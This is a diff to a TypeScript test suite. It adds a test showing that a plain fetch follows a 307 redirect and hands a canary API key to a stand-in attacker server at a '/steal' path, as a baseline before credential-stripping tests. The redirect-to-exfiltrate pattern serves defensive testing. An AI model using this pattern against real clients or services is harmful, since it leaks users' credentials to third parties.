@@ -41,6 +41,12 @@ function opening(
 const forms = [CANARY, Buffer.from(`u:${CANARY}`).toString("base64")];
 const shows = (text: string) => forms.some((form) => text.includes(form));
 
+it("a plain fetch takes a key to another host: what is held against here is real", async () => {
+  api.handle = (_, response) => response.writeHead(307, { location: `${evil.url}/steal` }).end();
+  await fetch(`${api.url}/`, { headers: { "x-api-key": CANARY } });
+  expect(shows(JSON.stringify(evil.seen))).toBe(true);
+});
+
 describe.each(CREDENTIALS)("a %s", (_, credential) => {
   const elsewhere: readonly (readonly [string, () => string])[] = [
     ["another host", () => `${evil.url}/steal`],
